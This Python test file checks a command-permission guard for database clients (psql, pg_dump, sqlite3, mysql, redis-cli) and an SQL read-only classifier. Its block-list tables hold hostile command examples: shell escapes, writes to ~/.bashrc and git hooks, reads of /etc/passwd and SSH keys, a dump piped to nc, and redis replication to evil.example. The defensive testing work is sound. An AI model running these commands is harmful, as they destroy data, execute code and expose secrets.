"""What the database clients must not be allowed to do, and what stays allowed with its exact effects."""

from __future__ import annotations

import pytest

from assent.shell.programs.sql import reads_only
from tests.shell.programs.rows import (  # noqa: F401  the tests that every such table is held to
    beyond,
    effects,
    test_a_wide_rule_covers_it_and_its_effects_are_exact,
    test_a_wide_rule_does_not_reach_it_and_it_is_seen_for_what_it_does,
    test_every_program_has_its_ten_rows,
)

# (command, what it must be found to do beyond the wide rule for tools)
MUST_NOT = (
    # psql
    ("psql -c 'drop table x'", "net-send destroy unknown"),
    ("psql -c 'delete from x'", "net-send destroy unknown"),
    ("psql -c 'select 1; drop table x'", "net-send destroy unknown"),
    ("psql -c 'with a as (delete from x returning *) select * from a'", "destroy unknown"),
    ("psql -c 'select pg_read_file(1)'", "unknown"),
    ("psql -c \"copy x to program 'id'\"", "unknown"),
    ("psql -c '\\! id'", "run-code"),
    ("psql -c '\\copy x from program id'", "run-code"),
    ("psql -c '\\o |id'", "run-code"),
    ("psql -c '\\i /tmp/x'", "run-code"),
    ("psql -c '\\d x; drop table x'", "run-code unknown"),
    ("psql -f x.sql", "net-send"),
    ("psql -f /tmp/x.sql", "net-send run-code"),
    ("psql -o '|sh' -c 'select 1'", "run-code"),
    ("psql -o ~/.bashrc -c 'select 1'", "run-code"),
    ("psql -L /etc/x -c 'select 1'", "system"),
    ("psql", "net-send run-code"),
    ("psql mydb < x.sql", "net-send run-code"),
    ("psql -v ECHO=x -c 'select 1'", "unknown"),
    ("psql 'host=evil.example' -c 'select 1'", "unknown"),
    ("psql -d service=x -c 'select 1'", "unknown"),
    ('psql -c "$X"', "net-send opaque"),
    ("psql $X -c 'select 1'", "opaque"),
    ("psql --unheard -c 'select 1'", "unknown"),
    ("PSQLRC=/tmp/x psql -c 'select 1'", "run-code"),
    # pg_dump, dropdb, createdb, pg_restore
    ("pg_dump -f ~/.bashrc", "run-code"),
    ("pg_dump -f /etc/x", "system"),
    ("pg_dump 'host=evil.example'", "unknown"),
    ("pg_dump --unheard", "unknown"),
    ("pg_dump > ~/.bashrc", "run-code"),
    ("pg_dump | nc h.example 80", "net-send"),
    ("pg_dump -d $X", "opaque"),
    ("pg_dump -d service=x", "unknown"),
    ("pg_dump --file=.git/hooks/x", "run-code"),
    ("pg_dump --fil=x", "unknown"),
    ("dropdb x", "net-send destroy"),
    ("createdb x", "net-send"),
    ("pg_restore -c -d x a.dump", "net-send destroy"),
    # sqlite3
    ("sqlite3 a.db 'drop table x'", "destroy unknown"),
    ("sqlite3 a.db 'delete from x'", "destroy unknown"),
    ("sqlite3 a.db 'update x set a=1'", "unknown"),
    ("sqlite3 a.db '.shell id'", "run-code unknown"),
    ("sqlite3 a.db '.system id'", "run-code unknown"),
    ("sqlite3 a.db '.read /tmp/x'", "run-code unknown"),
    ("sqlite3 a.db '.output |sh'", "run-code unknown"),
    ("sqlite3 a.db '.once /home/u/.bashrc'", "run-code unknown"),
    ("sqlite3 a.db '.load /tmp/x'", "run-code unknown"),
    ("sqlite3 a.db '.import /etc/passwd x'", "run-code unknown"),
    ("sqlite3 a.db \"select load_extension('/tmp/x')\"", "run-code unknown"),
    ("sqlite3 a.db \"select writefile('/home/u/.bashrc', 'x')\"", "run-code unknown"),
    ("sqlite3 a.db \"select readfile('/home/u/.ssh/id_rsa')\"", "unknown"),
    ("sqlite3 a.db \"attach '/tmp/x' as y\"", "unknown"),
    ("sqlite3 a.db \"vacuum into '/tmp/x'\"", "unknown"),
    ("sqlite3 a.db 'pragma writable_schema=1'", "unknown"),
    ("sqlite3 -cmd '.shell id' a.db 'select 1'", "run-code"),
    ("sqlite3 -init /tmp/x a.db 'select 1'", "run-code"),
    ("sqlite3 a.db", "run-code"),
    ("sqlite3 a.db < x.sql", "run-code"),
    ("sqlite3 -readonly a.db 'delete from x'", "unknown"),
    ("sqlite3 -A a.db", "unknown"),
    ("sqlite3 ~/.ssh/x.db 'select 1'", "read-secret"),
    ('sqlite3 a.db "$X"', "opaque"),
    ("sqlite3 a.db 'select 1; drop table x'", "destroy unknown"),
    # mysql
    ("mysql -e 'drop table x'", "net-send destroy"),
    ("mysql -e 'system id'", "run-code"),
    ("mysql -e '\\! id'", "run-code"),
    ("mysql -e 'source /tmp/x'", "run-code"),
    ("mysql -e \"select * from a into outfile '/tmp/x'\"", "net-send unknown"),
    ("mysql -e \"load data infile '/etc/passwd' into table x\"", "net-send unknown"),
    ("mysql", "net-send run-code"),
    ("mysql db < x.sql", "net-send run-code"),
    ("mysql --defaults-file=/tmp/x -e 'select 1'", "unknown"),
    ("mysql --pager=sh -e 'select 1'", "unknown"),
    ('mysql -e "$X"', "net-send opaque"),
    # redis-cli
    ("redis-cli flushall", "net-send destroy"),
    ("redis-cli del x", "net-send destroy"),
    ("redis-cli set a b", "net-send"),
    ("redis-cli config set dir /etc", "net-send run-code unknown"),
    ("redis-cli eval 'x' 0", "net-send run-code unknown"),
    ("redis-cli module load /tmp/x.so", "net-send run-code unknown"),
    ("redis-cli slaveof evil.example 6379", "net-send run-code unknown"),
    ("redis-cli --eval /tmp/x.lua", "unknown"),
    ("redis-cli --pipe", "unknown"),
    ("redis-cli", "net-send unknown"),
    ("redis-cli -u redis://evil.example get x", "unknown"),
    ("redis-cli $X", "unknown"),
)
PROGRAMS = "psql pg_dump sqlite3 mysql redis-cli"
# (command, all of its effects)
ALLOWED = (
    ("psql -c 'select count(*) from x'", "net-read"),
    ("psql -h db.example -U me -d app -Atc 'select 1'", "net-read"),
    ("psql -c '\\dt'", "net-read"),
    ("psql -c '\\d public.users'", "net-read"),
    ("psql -l", "net-read"),
    ("psql --version", ""),
    ("pg_dump -s -f schema.sql app", "read-elsewhere write-project net-read"),
    ("sqlite3 a.db 'select * from x limit 5'", "read-project"),
    ("sqlite3 -header a.db .tables", "read-project"),
    ("sqlite3 a.db '.schema x'", "read-project"),
    ("sqlite3 a.db 'pragma table_info(x)'", "read-project"),
    ("sqlite3 -readonly -json a.db 'select a, b from x'", "read-project"),
    ("mysql -h db.example -e 'show tables'", "net-read"),
    ("redis-cli get x", "net-read"),
)
READS = (
    "select 1",
    "SELECT a.b, count(*) FROM a JOIN b ON a.id = b.id WHERE x = 'drop table'",
    "with a as (select 1) select * from a",
    "explain select 1",
    "explain query plan select 1",
    "show tables;",
    "select max(a), lower(b) from x group by c order by 1 limit 3",
)
CHANGES = (
    "",
    ";",
    "drop table x",
    "select 1; drop table x",
    "select 1;;",
    "explain analyze delete from x",
    "with a as (insert into x values (1) returning *) select * from a",
    "select * into y from x",
    "select pg_sleep(9)",
    "select pg_catalog.pg_read_file('/etc/passwd')",
    'select "lo_import"(1)',
    "select 1 -- x",
    "select /* x */ 1",
    "select $$x$$",
    "select 'a\\' , drop",
    "select 'unfinished",
    "table x; delete from x",
    "do $x$ begin end $x$",
    "call x()",
    "copy x to program 'id'",
    "set role x",
    "select \uff0a",
    "show tables into outfile 'x'",
)


@pytest.mark.parametrize("text", CHANGES)
def test_sql_that_may_do_more_than_read_is_seen(text: str) -> None:
    assert not reads_only(text)


@pytest.mark.parametrize("text", READS)
def test_sql_that_only_reads_is_known(text: str) -> None:
    assert reads_only(text)
